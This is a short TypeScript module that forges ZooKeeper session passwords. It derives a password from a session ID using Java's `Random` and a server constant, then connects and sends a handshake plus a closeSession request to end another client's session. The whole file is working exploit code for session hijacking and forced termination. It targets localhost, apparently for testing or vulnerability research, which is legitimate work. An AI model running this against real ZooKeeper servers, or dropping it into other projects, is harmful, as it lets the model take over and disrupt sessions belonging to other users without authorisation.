import { once } from 'node:events';
import { connect } from 'node:net';
import { JuteWriter } from './jute.js';
import { OPCODES } from './protocol.js';

/** The constant that every ZooKeeper server has. */
const SUPER_SECRET = 0xb3415c00n;

/**
 * The password of a session, as every ZooKeeper server computes it: 16 bytes of
 * Java's `Random`, seeded with the number of the session and a constant. A
 * client that knows the number knows the password.
 */
export function sessionPassword(sessionId: string): Buffer {
  const [multiplier, mask] = [0x5deece66dn, (1n << 48n) - 1n];
  let seed = (BigInt(`0x${sessionId}`) ^ SUPER_SECRET ^ multiplier) & mask;
  const password = Buffer.alloc(16);
  for (let offset = 0; offset < password.length; offset += 4) {
    seed = (seed * multiplier + 0xbn) & mask;
    password.writeInt32LE(Number(BigInt.asIntN(32, seed >> 16n)), offset);
  }
  return password;
}

/** Ends somebody's session before he can connect again: in a single packet. */
export async function endSession(
  port: number,
  sessionId: string,
): Promise<void> {
  const socket = connect({ port, host: '127.0.0.1' });
  const handshake = new JuteWriter()
    .int(0)
    .long(0n)
    .int(10_000)
    .long(BigInt(`0x${sessionId}`))
    .buffer(sessionPassword(sessionId))
    .bool(false);
  const end = new JuteWriter().int(1).int(OPCODES.closeSession);
  socket.end(Buffer.concat([handshake.frame(), end.frame()]));
  socket.resume();
  await once(socket, 'close');
}
